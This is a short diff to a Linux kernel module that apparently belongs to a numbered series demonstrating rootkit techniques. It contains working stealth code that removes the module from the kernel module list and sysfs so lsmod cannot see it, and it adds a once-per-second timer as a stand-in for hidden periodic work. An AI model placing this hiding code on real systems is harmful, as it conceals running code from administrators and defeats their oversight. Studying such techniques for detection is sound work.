@@ -2,14 +2,27 @@
 /*
  * 10. Hide from the module list and sysfs, as Diamorphine and Reptile do:
  * unlink THIS_MODULE from `modules` and delete its kobject. lsmod and
- * /proc/modules no longer show it; its code stays loaded.
+ * /proc/modules no longer show it; its code stays loaded, and runs: a timer
+ * fires every second, as a hidden rootkit's periodic work would.
  */
 #include <linux/module.h>
 #include <linux/kobject.h>
 #include <linux/rculist.h>
+#include <linux/timer.h>
+
+static struct timer_list tick;
+static unsigned long ticks;
+
+static void rk_tick(struct timer_list *t)
+{
+	ticks++;
+	mod_timer(&tick, jiffies + HZ);
+}
 
 static int __init rk_init(void)
 {
+	timer_setup(&tick, rk_tick, 0);
+	mod_timer(&tick, jiffies + HZ);
 	list_del_rcu(&THIS_MODULE->list);
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	pr_info("rk_hide: hidden\n");
